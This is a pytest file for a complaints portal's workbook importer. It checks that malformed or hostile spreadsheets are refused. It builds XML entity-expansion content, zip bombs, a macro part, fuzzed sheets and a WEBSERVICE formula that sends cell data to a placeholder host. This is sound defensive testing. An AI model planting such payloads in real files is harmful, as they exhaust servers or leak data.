"""Broken and hostile workbooks: refused in words, in bounded time, without a trace."""

import io
import random
import re
import time
import zipfile
from collections.abc import Callable

import openpyxl
import pytest
import xlsxwriter

from portal.core.errors import Unacceptable
from portal.lampiran.workbooks import BukuDitolak
from portal.pengaduan.impor import actions
from portal.pengaduan.impor.buku import RUMUS, baca
from portal.pengaduan.impor.formulas import Masalah
from portal.pengaduan.impor.models import Impor
from tests import factories
from tests.lampiran.berkas import SAH
from tests.pengaduan.impor.buku import JUDUL, baris, buku
from tests.pengaduan.perkara import jumlah

SHEET = "xl/worksheets/sheet1.xml"


def changed(isi: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with one of its parts changed, or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(isi)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for info in old.infolist():
            body = old.read(info)
            new.writestr(info.filename, change(body) if info.filename == part else body)
        if part not in old.namelist():
            new.writestr(part, change(b""))
    return out.getvalue()


def shared() -> bytes:
    """A workbook whose texts lie in one shared table, as Excel writes them."""
    body = io.BytesIO()
    with xlsxwriter.Workbook(body) as book:
        sheet = book.add_worksheet("Pengaduan")
        sheet.write_row(0, 0, list(JUDUL.values()))
        sheet.write_row(1, 0, [str(baris().get(name, "")) for name in JUDUL])
    return body.getvalue()


GOOD = buku(baris(), baris(nomor_lama="2"))
SHARED = shared()
ENTITIES = (
    b'<?xml version="1.0"?>' + b"<!-- " + b"x" * 9000 + b" -->"
    b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
)
HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "text": lambda: b"Nomor lama;Tanggal diterima\n1;12/03/2025\n",
    "word": lambda: SAH["surat.docx"],
    "cut off": lambda: GOOD[: len(GOOD) // 2],
    "entities": lambda: changed(GOOD, SHEET, lambda body: ENTITIES + body[body.index(b"<work") :]),
    "utf-16": lambda: changed(GOOD, SHEET, lambda body: body.decode().encode("utf-16")),
    "no sheet": lambda: changed(GOOD, SHEET, lambda _body: b""),
    "not xml": lambda: changed(GOOD, SHEET, lambda _body: b"\x89PNG" * 50),
    "macros": lambda: changed(GOOD, "xl/vbaProject.bin", lambda _body: b"Attribute VB_Name"),
    "bomb": lambda: changed(GOOD, "xl/media/image1.png", lambda _body: b"\0" * 60_000_000),
    "bomb in the sheet": lambda: changed(
        GOOD, SHEET, lambda body: body.replace(b"</worksheet>", b" " * 60_000_000 + b"</worksheet>")
    ),
    "strange shared string": lambda: changed(
        SHARED, SHEET, lambda body: re.sub(rb't="s"><v>\d+', b't="s"><v>999999', body)
    ),
    "other headings": lambda: buku(baris(), judul=["Tanggal", "Isi"]),
    "a heading twice": lambda: buku(baris(), judul=[*list(JUDUL.values())[:-1], "Kanal"]),
    "nothing": lambda: buku(),
    "far away": lambda: changed(
        GOOD, SHEET, lambda body: body.replace(b'<row r="3"', b'<row r="1048576"')
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_refused_in_words(ctx, name):
    isi = HOSTILE[name]()
    began = time.monotonic()
    with pytest.raises(Unacceptable) as refusal:
        actions.periksa(isi, factories.petugas("pengelola"))
    assert time.monotonic() - began < 10
    assert re.search(r"[a-z]", refusal.value.message)
    assert jumlah(Impor) == 0


def test_formulas_errors_and_stray_cells_are_faults_of_their_row(ctx):
    book = openpyxl.load_workbook(io.BytesIO(GOOD))
    sheet = book.active
    sheet["E2"] = '=WEBSERVICE("http://contoh.example/"&A2)'
    sheet["Z3"] = "catatan liar"
    body = io.BytesIO()
    book.save(body)
    rows = dict(baca(body.getvalue()))
    assert rows[2] == Masalah(2, "Isi laporan", RUMUS)
    assert rows[3] == Masalah(3, "tanpa judul", "Ada isi di kolom yang tidak berjudul.")


def test_an_order_of_columns_does_not_matter(ctx):
    names = list(JUDUL)
    random.Random(4).shuffle(names)
    book = openpyxl.Workbook()
    book.active.append([JUDUL[name] for name in names])
    book.active.append([baris().get(name) for name in names])
    body = io.BytesIO()
    book.save(body)
    ((number, cells),) = baca(body.getvalue())
    assert number == 2
    assert cells["nomor_lama"] == "B/012"


def test_two_hundred_damaged_files_are_refused_or_read(ctx):
    chance = random.Random(20261122)
    for _ in range(200):
        isi = bytearray(GOOD)
        for _ in range(chance.randint(1, 12)):
            isi[chance.randrange(len(isi))] = chance.randrange(256)
        try:
            baca(bytes(isi))
        except BukuDitolak:
            continue


def test_two_hundred_damaged_sheets_are_refused_or_read(ctx):
    chance = random.Random(2026)

    def damaged(body: bytes) -> bytes:
        text = bytearray(body)
        for _ in range(chance.randint(1, 8)):
            place = chance.randrange(len(text))
            text[place : place + chance.randint(0, 5)] = chance.choice(
                [b"<", b">", b"&", b'"', b"\xff", b"9" * 30, b"-1", b"<c>", b"</row>", b""]
            )
        return bytes(text)

    for _ in range(200):
        part = chance.choice([SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"])
        try:
            baca(changed(SHARED, part, damaged))
        except BukuDitolak:
            continue
